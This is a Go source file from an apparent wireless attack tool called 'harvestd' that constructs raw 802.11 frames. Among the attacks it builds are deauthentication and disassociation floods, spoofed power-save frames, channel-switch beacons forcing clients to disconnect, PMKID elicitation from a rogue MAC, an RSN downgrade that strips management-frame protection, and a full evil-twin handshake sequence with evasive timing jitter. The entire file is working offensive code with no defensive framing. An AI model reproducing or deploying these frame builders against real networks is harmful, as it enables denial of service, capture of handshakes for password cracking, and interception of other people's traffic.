package frame

import (
	"time"

	"github.com/corvid-labs/harvestd/internal/core/ports"
)

// Frame is one built 802.11 frame plus the jitter to sleep before sending
// the next frame in its sequence (zero for the last frame, or for
// single-frame attacks).
type Frame struct {
	Bytes        []byte
	SleepAfter   time.Duration
}

// jitterMS returns a uniform random duration in [loMS, hiMS).
func jitterMS(rng ports.RandSource, loMS, hiMS float64) time.Duration {
	span := hiMS - loMS
	ms := loMS + rng.Float64()*span
	return time.Duration(ms * float64(time.Millisecond))
}

func mgmtFrame(subtype int, flags byte, addr1, addr2, addr3 MAC, seq uint16, durationID uint16, payload []byte) []byte {
	out := radiotapHeader()
	out = append(out, header(typeMgmt, subtype, flags, addr1, addr2, addr3, durationID, seq)...)
	out = append(out, payload...)
	return out
}

// AnonReassoc builds anon_reassoc(AP): a reassociation request with source
// = broadcast addressed so the AP answers with a signed deauth to all its
// clients, bypassing PMF (§4.7).
func AnonReassoc(ap MAC, ssid string, seq *SeqCounters) Frame {
	// Capability info (2) + listen interval (2) + current AP addr (6) + SSID IE.
	payload := make([]byte, 0, 16+len(ssid))
	payload = append(payload, 0x31, 0x04) // capability: ESS + privacy
	payload = append(payload, 0x0a, 0x00) // listen interval
	payload = append(payload, ap[:]...)   // current AP address
	payload = appendIE(payload, 0, []byte(ssid))
	b := mgmtFrame(subReassocReq, 0, ap, Broadcast, ap, seq.NextAP(), 0, payload)
	return Frame{Bytes: b}
}

// EAPOLM1Malformed builds eapol_m1_malformed(AP, STA): a data frame
// carrying a crafted EAPOL-Key M1 with a valid-looking nonce but a
// deliberately invalid MIC and corrupted replay counter (§4.7).
func EAPOLM1Malformed(ap, sta MAC, rng ports.RandSource, seq *SeqCounters) Frame {
	nonce := make([]byte, 32)
	for i := range nonce {
		if i%8 == 0 {
			b8 := rng.Uint64()
			for j := 0; j < 8 && i+j < 32; j++ {
				nonce[i+j] = byte(b8 >> (8 * j))
			}
		}
	}
	key := eapolKeyFrame(eapolKeyParams{
		keyInfo:      0x008a, // pairwise, ACK, MIC not yet valid
		keyLength:    16,
		replay:       replayCounterCorrupted,
		nonce:        nonce,
		mic:          make([]byte, 16), // zeroed: invalid MIC
	})
	payload := append(llcSNAP(), key...)
	b := mgmtDataFrame(sta, ap, ap, seq.NextAP(), payload)
	return Frame{Bytes: b}
}

func mgmtDataFrame(addr1, addr2, addr3 MAC, seq uint16, payload []byte) []byte {
	out := radiotapHeader()
	out = append(out, header(typeData, 0, flagFromDS, addr1, addr2, addr3, 0, seq)...)
	out = append(out, payload...)
	return out
}

// PowerSaveSpoof builds power_save_spoof(AP, STA): two Null Data frames
// spoofed as STA->AP, PM=1 then PM=0 after a 7-13ms jitter (§4.7).
func PowerSaveSpoof(ap, sta MAC, rng ports.RandSource, seq *SeqCounters) []Frame {
	pmOn := radiotapHeader()
	pmOn = append(pmOn, header(typeData, subNullData, flagToDS|flagPwrMgt, ap, sta, ap, 0, seq.NextSTA())...)

	pmOff := radiotapHeader()
	pmOff = append(pmOff, header(typeData, subNullData, flagToDS, ap, sta, ap, 0, seq.NextSTA())...)

	return []Frame{
		{Bytes: pmOn, SleepAfter: jitterMS(rng, 7, 13)},
		{Bytes: pmOff},
	}
}

// DisassocBidi builds disassoc_bidi(AP, STA): two disassociation frames,
// one in each direction, independent random reason codes (§4.7).
func DisassocBidi(ap, sta MAC, rng ports.RandSource, seq *SeqCounters) []Frame {
	apToSta := mgmtFrame(subDisassoc, 0, sta, ap, ap, seq.NextAP(), 0, reasonPayload(PickAPReason(rng)))
	staToAP := mgmtFrame(subDisassoc, flagToDS, ap, sta, ap, seq.NextSTA(), 0, reasonPayload(PickSTAReason(rng)))
	return []Frame{{Bytes: apToSta}, {Bytes: staToAP}}
}

// DeauthBroadcast builds deauth_broadcast(AP): DA=broadcast, SA=AP,
// BSSID=AP (§4.7).
func DeauthBroadcast(ap MAC, rng ports.RandSource, seq *SeqCounters) Frame {
	b := mgmtFrame(subDeauth, 0, Broadcast, ap, ap, seq.NextAP(), 0, reasonPayload(PickAPReason(rng)))
	return Frame{Bytes: b}
}

// DeauthBidi builds deauth_bidi(AP, STA): directed pair AP->STA then
// STA->AP (§4.7).
func DeauthBidi(ap, sta MAC, rng ports.RandSource, seq *SeqCounters) []Frame {
	apToSta := mgmtFrame(subDeauth, 0, sta, ap, ap, seq.NextAP(), 0, reasonPayload(PickAPReason(rng)))
	staToAP := mgmtFrame(subDeauth, flagToDS, ap, sta, ap, seq.NextSTA(), 0, reasonPayload(PickSTAReason(rng)))
	return []Frame{{Bytes: apToSta}, {Bytes: staToAP}}
}

func reasonPayload(reason uint16) []byte {
	b := make([]byte, 2)
	b[0] = byte(reason)
	b[1] = byte(reason >> 8)
	return b
}

// csaIE builds IE tag 37 (CSA): mode, new channel, switch count.
func csaIE(mode, newChannel, count byte) []byte {
	return appendIE(nil, 37, []byte{mode, newChannel, count})
}

// CSABeacon builds csa_beacon(AP): six beacon clones, each carrying CSA IE
// mode=1 counting down 5->0, pointing at channel 14 -- always invalid in
// the 2.4GHz US regulatory domain, forcing disconnect (§4.7).
func CSABeacon(ap MAC, ssid string, seq *SeqCounters) []Frame {
	frames := make([]Frame, 0, 6)
	for count := 5; count >= 0; count-- {
		payload := make([]byte, 0, 32+len(ssid))
		payload = append(payload, 0, 0, 0, 0, 0, 0, 0, 0) // timestamp
		payload = append(payload, 0x64, 0x00)             // beacon interval
		payload = append(payload, 0x31, 0x04)             // capability
		payload = appendIE(payload, 0, []byte(ssid))
		payload = append(payload, csaIE(1, 14, byte(count))...)
		b := mgmtFrame(subBeacon, 0, Broadcast, ap, ap, seq.NextAP(), 0, payload)
		frames = append(frames, Frame{Bytes: b})
	}
	return frames
}

// CSAAction builds csa_action(AP): Category=0 Action frame to broadcast
// carrying the same CSA IE, count=3 (§4.7).
func CSAAction(ap MAC, seq *SeqCounters) Frame {
	payload := []byte{0x00, 0x04} // category: Spectrum Mgmt, action: CSA
	payload = append(payload, csaIE(1, 14, 3)...)
	b := mgmtFrame(subAction, 0, Broadcast, ap, ap, seq.NextAP(), 0, payload)
	return Frame{Bytes: b}
}

// ProbeUndirected builds probe_undirected: random locally-administered
// source MAC, empty SSID (§4.7).
func ProbeUndirected(rng ports.RandSource, seq *SeqCounters) Frame {
	src := randomLocalMAC(rng)
	payload := appendIE(nil, 0, nil)
	payload = append(payload, supportedRatesIE()...)
	b := mgmtFrame(subProbeReq, 0, Broadcast, src, Broadcast, seq.NextProbe(), 0, payload)
	return Frame{Bytes: b}
}

// ProbeDirected builds probe_directed(AP): same, but with SSID IE set to
// the AP's SSID, revealing hidden networks (§4.7).
func ProbeDirected(ssid string, rng ports.RandSource, seq *SeqCounters) Frame {
	src := randomLocalMAC(rng)
	payload := appendIE(nil, 0, []byte(ssid))
	payload = append(payload, supportedRatesIE()...)
	b := mgmtFrame(subProbeReq, 0, Broadcast, src, Broadcast, seq.NextProbe(), 0, payload)
	return Frame{Bytes: b}
}

func supportedRatesIE() []byte {
	return appendIE(nil, 1, []byte{0x82, 0x84, 0x8b, 0x96})
}

func randomLocalMAC(rng ports.RandSource) MAC {
	var m MAC
	v := rng.Uint64()
	for i := 0; i < 6; i++ {
		m[i] = byte(v >> (8 * i))
	}
	m[0] = (m[0] &^ 0x01) | 0x02 // locally administered, unicast
	return m
}

// AuthAssocPMKID builds auth_assoc_pmkid(AP): open-system Authentication
// seq=1 then Association Request with a full RSN IE (CCMP/PSK/MFPC) from a
// random rogue MAC, eliciting an M1 carrying PMKID (§4.7).
func AuthAssocPMKID(ap MAC, ssid string, rng ports.RandSource, seq *SeqCounters) []Frame {
	rogue := randomLocalMAC(rng)

	authPayload := []byte{0x00, 0x00, 0x01, 0x00, 0x00, 0x00} // algo=open, seq=1, status=0
	auth := mgmtFrame(subAuth, 0, ap, rogue, ap, seq.NextAP(), 0, authPayload)

	assocPayload := make([]byte, 0, 32+len(ssid))
	assocPayload = append(assocPayload, 0x31, 0x04) // capability
	assocPayload = append(assocPayload, 0x0a, 0x00) // listen interval
	assocPayload = appendIE(assocPayload, 0, []byte(ssid))
	assocPayload = append(assocPayload, rsnIE(true)...)
	assoc := mgmtFrame(subAssocReq, 0, ap, rogue, ap, seq.NextAP(), 0, assocPayload)

	return []Frame{
		{Bytes: auth, SleepAfter: jitterMS(rng, 3.5, 13)},
		{Bytes: assoc},
	}
}

// rsnIE builds a minimal WPA2 RSN information element. mfpc toggles the
// MFP-capable bit in the RSN capabilities field.
func rsnIE(mfpc bool) []byte {
	body := []byte{
		0x01, 0x00, // version
		0x00, 0x0f, 0xac, 0x04, // group cipher: CCMP
		0x01, 0x00, // pairwise cipher count
		0x00, 0x0f, 0xac, 0x04, // pairwise cipher: CCMP
		0x01, 0x00, // AKM suite count
		0x00, 0x0f, 0xac, 0x02, // AKM: PSK
		0x00, 0x00, // RSN capabilities
	}
	if mfpc {
		body[len(body)-2] |= 0x80
	}
	return appendIE(nil, 48, body)
}

// RSNDowngrade builds rsn_downgrade(AP, STA): a spoofed Probe Response
// impersonating the AP but advertising WPA2-PSK-only RSN without MFP,
// coercing transition-mode clients into WPA2 (§4.7).
func RSNDowngrade(ap, sta MAC, ssid string, seq *SeqCounters) Frame {
	payload := make([]byte, 0, 32+len(ssid))
	payload = append(payload, 0, 0, 0, 0, 0, 0, 0, 0) // timestamp
	payload = append(payload, 0x64, 0x00)             // beacon interval
	payload = append(payload, 0x31, 0x04)             // capability
	payload = appendIE(payload, 0, []byte(ssid))
	payload = append(payload, rsnIE(false)...)
	b := mgmtFrame(subProbeResp, 0, sta, ap, ap, seq.NextAP(), 0, payload)
	return Frame{Bytes: b}
}

// RogueM2 builds rogue_m2(AP, STA): a four-frame Evil-Twin sequence --
// Probe Response, Auth Response (seq=2, success), Assoc Response (status 0,
// AID 0xC001), EAPOL M1 with a random ANonce -- each separated by
// 3.5-13ms of jitter (§4.7).
func RogueM2(ap, sta MAC, ssid string, rng ports.RandSource, seq *SeqCounters) []Frame {
	probeResp := RSNDowngrade(ap, sta, ssid, seq).Bytes

	authRespPayload := []byte{0x00, 0x00, 0x02, 0x00, 0x00, 0x00} // open, seq=2, success
	authResp := mgmtFrame(subAuth, 0, sta, ap, ap, seq.NextAP(), 0, authRespPayload)

	assocRespPayload := []byte{0x31, 0x04, 0x00, 0x00, 0x01, 0xC0} // capability, status=0, AID=0xC001
	assocResp := mgmtFrame(0x1, 0, sta, ap, ap, seq.NextAP(), 0, assocRespPayload)

	nonce := make([]byte, 32)
	v := rng.Uint64()
	for i := range nonce {
		nonce[i] = byte(v >> uint(i%8))
	}
	key := eapolKeyFrame(eapolKeyParams{
		keyInfo:   0x008a,
		keyLength: 16,
		replay:    0,
		nonce:     nonce,
		mic:       make([]byte, 16),
	})
	eapol := append(llcSNAP(), key...)
	eapolFrame := mgmtDataFrame(sta, ap, ap, seq.NextAP(), eapol)

	return []Frame{
		{Bytes: probeResp, SleepAfter: jitterMS(rng, 3.5, 13)},
		{Bytes: authResp, SleepAfter: jitterMS(rng, 3.5, 13)},
		{Bytes: assocResp, SleepAfter: jitterMS(rng, 3.5, 13)},
		{Bytes: eapolFrame},
	}
}
